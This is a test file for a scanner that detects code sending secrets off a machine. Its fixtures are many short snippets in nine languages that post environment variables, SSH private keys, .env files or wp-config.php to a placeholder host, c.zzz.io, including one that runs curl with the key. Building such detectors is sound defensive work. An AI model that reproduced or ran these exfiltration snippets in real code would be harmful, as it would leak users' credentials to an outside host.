import { describe, expect, test } from "vitest";
import { markText, type TextFormat } from "../../text/marked-text.ts";
import { scriptedSends } from "./scripted-sends.ts";

const seenIn = (text: string, format: TextFormat = "script") =>
  scriptedSends(markText(text, format)).map(({ does }) => does);
const url = "https://c.zzz.io/a";
const environment = "sends the environment to c.zzz.io";

describe("the environment that is sent off is found in", () => {
  test.each([
    ["Ruby", `data = ENV.to_h.to_json\nNet::HTTP.post(URI("${url}"), data)`],
    ["Ruby, of the whole hash", `u = "${url}"\nHTTParty.post(u, body: ENV.map { |k, v| k })`],
    ["Ruby, selected", `s = ENV.select { |k, _| k =~ /KEY/ }\nRestClient.post "${url}", s`],
    ["Ruby, passed on", `d = dump(ENV)\nFaraday.post("${url}", d)`],
    [
      "Ruby, a body set before the request",
      `req = Net::HTTP::Post.new(URI("${url}"))\nd = ENV.to_a\nreq.body = d\nx = 1\nhttp.request(req)`,
    ],
    ["Ruby, a socket", `d = ENV.each { |k, v| k }\nh = "${url}"\nTCPSocket.new(h, 80).write(d)`],
    [
      "Go",
      `package main\nfunc main() {\n\te := os.Environ()\n\thttp.Post("${url}", "", strings.NewReader(strings.Join(e, "\\n")))\n}`,
    ],
    [
      "Kotlin",
      `import okhttp3.*\nfun main() {\n  val e = System.getenv().toString()\n  val r = Request.Builder().url("${url}").post(e.toRequestBody()).build()\n}`,
    ],
    [
      "Swift",
      `import Foundation\nlet e = ProcessInfo.processInfo.environment\nvar r = URLRequest(url: URL(string: "${url}")!)\nr.httpBody = try JSONEncoder().encode(e)`,
    ],
    ["Perl", `my $d = join("\\n", %ENV);\n$ua->post("${url}", Content => $d);`],
    [
      "PHP",
      `$d = json_encode($_ENV);\n$c = curl_init("${url}");\ncurl_setopt($c, CURLOPT_POSTFIELDS, $d);`,
    ],
    ["PHP, by a function", `$d = getenv();\n$u = "${url}";\n$client->post($u, $d);`],
    [
      "PHP, by a stream",
      `$u = "${url}";\n$c = stream_context_create(['http' => ['content' => http_build_query($_SERVER)]]);`,
    ],
  ])("%s", (_name, text) => {
    expect(seenIn(text)).toEqual([environment]);
  });
});

describe("a file of secrets that is sent off is found in", () => {
  test.each([
    [
      "Rust",
      `use std::fs;\nfn main() {\n    let home = std::env::var("HOME").unwrap();\n    let key = fs::read_to_string(format!("{home}/.ssh/id_rsa")).unwrap();\n    ureq::post("${url}").send_string(&key).unwrap();\n}`,
    ],
    [
      "Java",
      `import java.nio.file.*;\nclass A {\n  String home = System.getProperty("user.home");\n  String key = Files.readString(Path.of(home, ".ssh", "id_rsa"));\n  HttpRequest r = HttpRequest.newBuilder(URI.create("${url}")).POST(BodyPublishers.ofString(key)).build();\n}`,
    ],
    [
      "C#",
      `using System.IO;\nvar home = Environment.GetFolderPath(Environment.SpecialFolder.UserProfile);\nvar key = File.ReadAllText(Path.Combine(home, ".ssh", "id_rsa"));\nawait client.PostAsync("${url}", new StringContent(key));`,
    ],
    ["Ruby", `k = File.read(File.expand_path("~/.ssh/id_rsa"))\nNet::HTTP.post(URI("${url}"), k)`],
    [
      "Ruby, the home folder",
      `k = IO.read("#{Dir.home}/.ssh/id_rsa")\nHTTP.post("${url}", body: k)`,
    ],
    ["Perl", `my $k = slurp("$HOME/.ssh/id_rsa");\n$http->post_form("${url}", { k => $k });`],
    ["PHP", `$k = file_get_contents("{$home}/.ssh/id_rsa");\n$http->put("${url}", $k);`],
  ])("%s", (_name, text) => {
    expect(seenIn(text)).toEqual(["sends ~/.ssh/id_rsa to c.zzz.io"]);
  });
});

test.each([
  [
    "a folder of keys, in Go",
    "~/.ssh",
    `package main\nfunc main() {\n\thome, _ := os.UserHomeDir()\n\tfiles, _ := filepath.Glob(filepath.Join(home, ".ssh", "id_*"))\n\tfor _, f := range files {\n\t\tb, _ := os.ReadFile(f)\n\t\thttp.Post("${url}", "text/plain", bytes.NewReader(b))\n\t}\n}`,
  ],
  [
    "the settings of a site, in PHP",
    "/wp-config.php",
    `$c = file_get_contents($argv[1] . '/wp-config.php');\n$u = "${url}";\n$http->post($u, $c);`,
  ],
  [
    "the keys of a project, in Ruby",
    ".env",
    `k = File.read(".env")\nNet::HTTP.post(URI("${url}"), k)`,
  ],
])("%s", (_name, file, text) => {
  expect(seenIn(text)).toEqual([`sends ${file} to c.zzz.io`]);
});

const readsKey = `\tkey, _ := os.ReadFile(filepath.Join(home, ".ssh", "id_rsa"))\n`;
const sendsKey = `http.Post("${url}", "a/b", bytes.NewReader(key))\n`;

describe("a file of secrets is followed through functions and statements:", () => {
  test.each([
    [
      "what a function returns",
      `package main\nfunc main() {\n\thttp.Post("${url}", "a/b", bytes.NewReader(load()))\n}\nfunc load() []byte {\n${readsKey}\treturn key\n}`,
    ],
    [
      "the last value of a function",
      `use std::fs;\nfn load(home: &Path) -> String {\n    let key = fs::read_to_string(home.join(".ssh/id_rsa")).unwrap();\n    key\n}\nfn main() {\n    let body = load(&home);\n    ureq::post("${url}").send_string(&body);\n}`,
    ],
    [
      "what a function is given",
      `package main\nfunc send(data []byte) {\n\tbody := bytes.NewReader(data)\n\thttp.Post("${url}", "a/b", body)\n}\nfunc main() {\n${readsKey}\tsend(key)\n}`,
    ],
    [
      "a chain of calls on several lines",
      `use std::fs;\nfn main() {\n    let key = fs::read_to_string(home.join(".ssh/id_rsa")).unwrap();\n    ureq::post("${url}")\n        .send_string(&key);\n}`,
    ],
    [
      "arguments on several lines",
      `package main\nfunc main() {\n${readsKey}\thttp.Post(\n\t\t"${url}",\n\t\t"a/b",\n\t\tbytes.NewReader(key),\n\t)\n}`,
    ],
    [
      "a buffer that is filled",
      `package main\nfunc main() {\n${readsKey}\tfmt.Fprintf(&buf, "%s", key)\n\thttp.Post("${url}", "a/b", &buf)\n}`,
    ],
    [
      "a list of texts",
      `use std::fs;\nfn main() {\n    let key = fs::read_to_string(home.join(".ssh/id_rsa")).unwrap();\n    parts.push(key);\n    ureq::post("${url}").send_string(&parts.join(""));\n}`,
    ],
    [
      "a list of paths",
      `package main\nfunc main() {\n\tfor _, p := range []string{"a.txt", ".ssh/id_rsa"} {\n\t\tkey, _ := os.ReadFile(filepath.Join(home, p))\n\t\t${sendsKey}\t}\n}`,
    ],
    [
      "a computed last value of a function",
      `use std::fs;\nfn load() -> String {\n    fs::read_to_string(home.join(".ssh/id_rsa")).unwrap()\n}\nfn main() {\n    ureq::post("${url}").send_string(&load());\n}`,
    ],
    [
      "a stream of a connection, in Kotlin",
      `import java.io.File\nfun main() {\n  val f = File(System.getProperty("user.home"), ".ssh/id_rsa")\n  val c = URL("${url}").openConnection()\n  c.outputStream.use { it.write(f.readBytes()) }\n}`,
    ],
    [
      "a member of what is sent",
      `package main\nfunc main() {\n${readsKey}\tk, v, _ := strings.Cut(key, "=")\n\treport.vars[k] = v\n\thttp.Post("${url}", "a/b", encode(report))\n}`,
    ],
    [
      "an open file",
      `use strict; use LWP::UserAgent;\nopen(my $fh, '<', "$ENV{HOME}/.ssh/id_rsa") or exit;\nlocal $/; my $k = <$fh>;\n$ua->post('${url}', { d => $k });`,
    ],
    [
      "a program that sends",
      `use std::fs;\nfn main() {\n    let key = fs::read_to_string(home.join(".ssh/id_rsa")).unwrap();\n    Command::new("curl").args(["-d", &key, "${url}"]).status();\n}`,
    ],
  ])("%s", (_name, text) => {
    expect(seenIn(text)).toEqual(["sends ~/.ssh/id_rsa to c.zzz.io"]);
  });
});

test("a send is where the request is, and not where the function begins", () => {
  const text = `package main\nfunc send(key []byte) {\n\thttp.Post("${url}", "a/b", bytes.NewReader(key))\n}\nfunc main() {\n${readsKey}\tsend(key)\n}`;
  expect(scriptedSends(markText(text, "script")).map(({ line }) => line)).toEqual([3]);
});

const hits = (text: string) =>
  scriptedSends(markText(text, "markdown")).map(({ confidence }) => confidence);

test("in a block of a text", () => {
  const block = `\`\`\`ruby\nHTTP.post("${url}", body: ENV.to_h)\n\`\`\``;
  expect(hits(block)).toEqual(["medium"]);
  expect(hits(`# Attacks\n\n${block}`)).toEqual(["low"]);
  expect(hits(`Never do this:\n\n${block}`)).toEqual([]);
});

describe("silent:", () => {
  test.each<[string, string, TextFormat?]>([
    [
      "Go that passes the environment on",
      `package main\nfunc main() {\n\tcmd.Env = os.Environ()\n\thttp.Get("${url}")\n}`,
    ],
    ["words of Go in another language", `e = os.Environ()\nhttp.Post("${url}", e)`],
    ["one variable", `k = ENV["A_KEY"]\nNet::HTTP.post(URI("${url}"), k)`],
    ["what is not sent", `d = ENV.to_h\nputs d\nNet::HTTP.post(URI("${url}"), "hello")`],
    [
      "a function that sends something else",
      `package main\nfunc send(name string) {\n\tlog(name)\n\thttp.Post("${url}", "a/b", nil)\n}\nfunc main() {\n${readsKey}\tsend(key)\n}`,
    ],
    [
      "a list of other paths",
      `package main\nfunc main() {\n\tpaths := []string{"a.txt", ".cache/b"}\n\tos.ReadFile(paths[0])\n\thttp.Post("${url}", "a/b", paths)\n}`,
    ],
    ["notes", `d = File.read("notes.txt")\nNet::HTTP.post(URI("${url}"), d)`],
    ["this machine", 'Net::HTTP.post(URI("http://localhost/a"), ENV.to_h)'],
    ["a comment", `# Net::HTTP.post(URI("${url}"), ENV.to_h)\nNet::HTTP.get(ENV["A"])`],
    ["a body without a request", `u = "${url}"\nreq.body = ENV.to_h\nputs req`],
    ["a text without a request", 'puts ENV.to_h, "http"'],
    ["a text without secrets", `Net::HTTP.get("${url}")`],
    ["a shell script", `Net::HTTP.post(URI("${url}"), ENV.to_h)`, "shell"],
    ["prose", `Net::HTTP.post(URI("${url}"), ENV.to_h)`, "markdown"],
  ])("%s", (_name, text, format) => {
    expect(seenIn(text, format)).toEqual([]);
  });
});
